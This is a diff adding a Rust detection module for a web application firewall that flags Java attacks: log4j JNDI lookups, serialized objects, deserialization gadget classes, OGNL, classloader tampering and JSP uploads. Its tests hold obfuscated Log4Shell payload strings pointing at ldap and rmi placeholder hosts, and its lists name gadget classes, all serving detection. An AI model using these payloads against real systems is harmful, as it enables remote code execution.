@@ -1,0 +1,322 @@
+//! Java attacks (CRS 944): JNDI/log4j lookups (with nested-lookup obfuscation resolved the way
+//! log4j resolves it), serialized-object markers, process-execution classes, deserialization
+//! gadget classes, JSP uploads, OGNL and Spring class-loader manipulation.
+
+use super::{has_word, Findings, INJECTION_SOURCES};
+use crate::extract::Prepared;
+use crate::model::{Category, Severity, Source};
+
+const CAT: Category = Category::Java;
+
+/// Gadget classes of the well-known deserialization chains (commons-collections, JDK XML
+/// decoding, Xalan templates): their names in a request are never innocent.
+const GADGETS: &[&str] = &[
+    "clonetransformer",
+    "forclosure",
+    "instantiatefactory",
+    "instantiatetransformer",
+    "invokertransformer",
+    "prototypeclonefactory",
+    "prototypeserializationfactory",
+    "whileclosure",
+    "chainedtransformer",
+    "constanttransformer",
+    "lazymap",
+    "transformedmap",
+    "templatesimpl",
+    "xmldecoder",
+    "annotationinvocationhandler",
+    "badattributevalueexpexception",
+    "jdbcrowsetimpl",
+];
+
+/// JDK packages whose classes are instantiated or invoked by deserialization and expression
+/// language attacks (`java.lang.Runtime`, `java.io.ObjectInputStream`, `org.omg.CORBA`...).
+const PACKAGES: &[&str] = &[
+    "java.lang.",
+    "java.io.",
+    "java.net.",
+    "java.nio.",
+    "java.util.",
+    "java.rmi.",
+    "java.beans.",
+    "java.security.",
+    "java.sql.",
+    "javax.naming.",
+    "javax.management.",
+    "javax.script.",
+    "javax.xml.",
+    "org.omg.corba",
+    "sun.misc.",
+    "sun.reflect.",
+    "com.sun.jndi",
+    "com.sun.rowset",
+    "com.sun.org.apache",
+    "jdk.internal.",
+];
+
+/// Lookup prefixes log4j understands; `${prefix:` in input is a lookup attempt.
+const LOOKUPS: &[&str] = &[
+    "jndi", "env", "sys", "lower", "upper", "ctx", "main", "date", "java", "base64", "bundle",
+    "k8s", "docker", "log4j", "marker", "spring", "web", "map", "sd", "event", "",
+];
+
+pub(crate) fn scan(p: &Prepared<'_>, out: &mut Findings) {
+    for input in p
+        .inputs_from(INJECTION_SOURCES)
+        .chain(p.inputs_from(&[Source::Path]))
+    {
+        let l = input.lower.as_str();
+        if input.location.source != Source::Filename {
+            if l.contains("${") || l.contains("jndi:") {
+                if jndi(l) {
+                    out.hit(input, CAT, "java.jndi-lookup", Severity::Critical, 1);
+                }
+                if lookup(l) {
+                    out.hit(input, CAT, "java.lookup", Severity::Critical, 2);
+                }
+            }
+            if l.contains("java.lang.runtime") || l.contains("java.lang.processbuilder") {
+                out.hit(input, CAT, "java.process-class", Severity::Critical, 1);
+            }
+            let exec =
+                has_word(l, "runtime") || l.contains("processbuilder") || l.contains("getruntime");
+            if exec && l.contains("java.") {
+                out.hit(input, CAT, "java.process-reference", Severity::Critical, 1);
+            } else if exec && has_word(l, "java") {
+                out.hit(input, CAT, "java.process-reference", Severity::Critical, 2);
+            }
+            if GADGETS.iter().any(|g| l.contains(g)) {
+                if exec {
+                    out.hit(input, CAT, "java.gadget-exec", Severity::Critical, 1);
+                } else {
+                    out.hit(input, CAT, "java.gadget", Severity::Critical, 2);
+                }
+            }
+            if jdk_class(l) {
+                out.hit(input, CAT, "java.jdk-class", Severity::Critical, 1);
+            }
+            if serialized(&input.value) {
+                out.hit(input, CAT, "java.serialized-object", Severity::Critical, 1);
+            }
+            if input.value.contains("rO0AB") {
+                out.hit(input, CAT, "java.serialized-base64", Severity::Critical, 2);
+            }
+            if ognl(l) {
+                out.hit(input, CAT, "java.ognl", Severity::Critical, 1);
+            }
+            if l.contains("class.module.classloader") || l.contains("class.classloader") {
+                out.hit(input, CAT, "java.classloader", Severity::Critical, 1);
+            }
+            if l.contains("springframework") && l.contains("applicationcontext") {
+                out.hit(input, CAT, "java.spring-context", Severity::Critical, 2);
+            }
+        }
+        if is_upload_name(input.location.source, &input.location.name) && jsp_file(l) {
+            out.hit(input, CAT, "java.jsp-upload", Severity::Critical, 1);
+        }
+    }
+    // Struts-style OGNL in Content-Type (not an inspected header by default).
+    if let Some(ct) = p.request.header("content-type") {
+        if ognl(&ct.to_ascii_lowercase()) {
+            out.hit_request(
+                CAT,
+                "java.ognl",
+                Severity::Critical,
+                1,
+                Source::Header,
+                "content-type",
+            );
+        }
+    }
+}
+
+/// Multipart file names and the upload-name headers some frameworks use.
+pub(crate) fn is_upload_name(source: Source, name: &str) -> bool {
+    source == Source::Filename
+        || (source == Source::Header
+            && matches!(
+                name,
+                "x-filename" | "x_filename" | "x.filename" | "x-file-name"
+            ))
+}
+
+/// A file name ending in `.jsp`/`.jspx` once the padding servers ignore is removed.
+fn jsp_file(l: &str) -> bool {
+    let name: String = l.chars().filter(|c| !c.is_whitespace()).collect();
+    let name = name.trim_end_matches(['.', '/', '\\', ':']);
+    name.ends_with(".jsp") || name.ends_with(".jspx")
+}
+
+/// A `java.lang.Foo`-style reference into the JDK's dangerous packages.
+fn jdk_class(l: &str) -> bool {
+    PACKAGES.iter().any(|p| {
+        let mut from = 0;
+        while let Some(pos) = l.get(from..).and_then(|h| h.find(p)) {
+            let at = from + pos;
+            let before_ok = at == 0
+                || l.as_bytes()
+                    .get(at - 1)
+                    .is_some_and(|b| !b.is_ascii_alphanumeric() && *b != b'.');
+            let after = l.as_bytes().get(at + p.len());
+            let after_ok =
+                p.ends_with('.') && after.is_some_and(u8::is_ascii_alphabetic) || !p.ends_with('.');
+            if before_ok && after_ok {
+                return true;
+            }
+            from = at + 1;
+        }
+        false
+    })
+}
+
+/// Java serialization stream magic, raw or hex-encoded.
+fn serialized(v: &str) -> bool {
+    let l = v.to_ascii_lowercase();
+    l.contains("aced0005")
+        || v.as_bytes()
+            .windows(4)
+            .any(|w| w == [0xAC, 0xED, 0x00, 0x05])
+}
+
+/// OGNL expressions as used against Struts: member-access tampering, static calls.
+fn ognl(l: &str) -> bool {
+    (l.contains("%{") || l.contains("${") || l.contains("(#"))
+        && (l.contains("#_memberaccess")
+            || l.contains("@ognl")
+            || l.contains("#context")
+            || l.contains("@java.lang")
+            || l.contains("ognlcontext"))
+}
+
+/// Whether resolving log4j lookups in `l` yields a JNDI lookup.
+fn jndi(l: &str) -> bool {
+    if l.contains("${jndi:") {
+        return true;
+    }
+    if l.len() > 16 * 1024 {
+        return false;
+    }
+    let resolved = resolve(l);
+    resolved.contains("${jndi:") || resolved.contains("jndi:ldap") || resolved.contains("jndi:rmi")
+}
+
+/// Resolves nested lookups innermost-first: `${prefix:key:-default}` becomes its default,
+/// `${lower:X}`/`${upper:X}` become `X`, `${date:'j'}` becomes `j`, other lookups vanish; a
+/// `${jndi:` is left in place for the caller to find. Bounded to 64 substitutions.
+fn resolve(l: &str) -> String {
+    let mut s = l.to_string();
+    for _ in 0..64 {
+        let Some(open) = innermost(&s) else {
+            break;
+        };
+        let Some(close_rel) = s.get(open + 2..).and_then(|r| r.find('}')) else {
+            break;
+        };
+        let close = open + 2 + close_rel;
+        let inner = s.get(open + 2..close).unwrap_or_default().to_string();
+        if inner.starts_with("jndi:") {
+            break;
+        }
+        let value = if let Some((_, default)) = inner.split_once(":-") {
+            default.to_string()
+        } else if let Some(rest) = inner
+            .strip_prefix("lower:")
+            .or_else(|| inner.strip_prefix("upper:"))
+        {
+            rest.to_string()
+        } else if let Some(rest) = inner.strip_prefix("date:") {
+            rest.trim_matches('\'').to_string()
+        } else {
+            String::new()
+        };
+        s.replace_range(open..=close, &value);
+    }
+    s
+}
+
+/// The last `${` that is not a JNDI lookup (so JNDI lookups stay visible).
+fn innermost(s: &str) -> Option<usize> {
+    let mut end = s.len();
+    while let Some(pos) = s.get(..end).and_then(|h| h.rfind("${")) {
+        if !s.get(pos + 2..).is_some_and(|r| r.starts_with("jndi:")) {
+            return Some(pos);
+        }
+        end = pos;
+    }
+    None
+}
+
+/// A `${prefix:` lookup with a prefix log4j knows (paranoia 2: template syntax is common).
+fn lookup(l: &str) -> bool {
+    let mut from = 0;
+    while let Some(pos) = l.get(from..).and_then(|h| h.find("${")) {
+        let at = from + pos + 2;
+        let rest = l.get(at..).unwrap_or_default();
+        let prefix: String = rest
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric())
+            .collect();
+        if rest.get(prefix.len()..).is_some_and(|r| r.starts_with(':'))
+            && LOOKUPS.contains(&prefix.as_str())
+        {
+            return true;
+        }
+        if rest.starts_with("${") {
+            return true;
+        }
+        from = at;
+    }
+    false
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn jndi_plain_and_obfuscated() {
+        for s in [
+            "${jndi:ldap://x/a}",
+            "${${lower:j}ndi:ldap://x}",
+            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/y}",
+            "${${env:nope:-j}ndi${env:nope:-:}ldap://x}",
+            "$${env:a:-${env:b:-$}{jndi:ldap://e/w}}}",
+            "${${date:'j'}${upper:n}di:ldap://x}",
+        ] {
+            assert!(jndi(&s.to_ascii_lowercase()), "{s}");
+        }
+        assert!(!jndi("${user.name} costs $5"));
+        assert!(!jndi("price: ${price}"));
+    }
+
+    #[test]
+    fn jdk_classes_need_a_class_after_the_package() {
+        assert!(jdk_class("java.io.objectinputstream"));
+        assert!(jdk_class("x=org.omg.corba"));
+        assert!(!jdk_class("my.java.lang."));
+        assert!(!jdk_class("java.io"));
+        assert!(!jdk_class("i like java and coffee"));
+    }
+
+    #[test]
+    fn jsp_names() {
+        assert!(jsp_file("shell. jsp"));
+        assert!(jsp_file("a.jsp.."));
+        assert!(jsp_file("b.jspx"));
+        assert!(!jsp_file("a.jsp.png"));
+    }
+
+    #[test]
+    fn serialized_markers() {
+        assert!(serialized("ACED0005737200"));
+        assert!(!serialized("aced000"));
+    }
+
+    #[test]
+    fn lookups_at_pl2() {
+        assert!(lookup("${env:home}"));
+        assert!(lookup("${::-j}"));
+        assert!(!lookup("${price}"));
+    }
+}
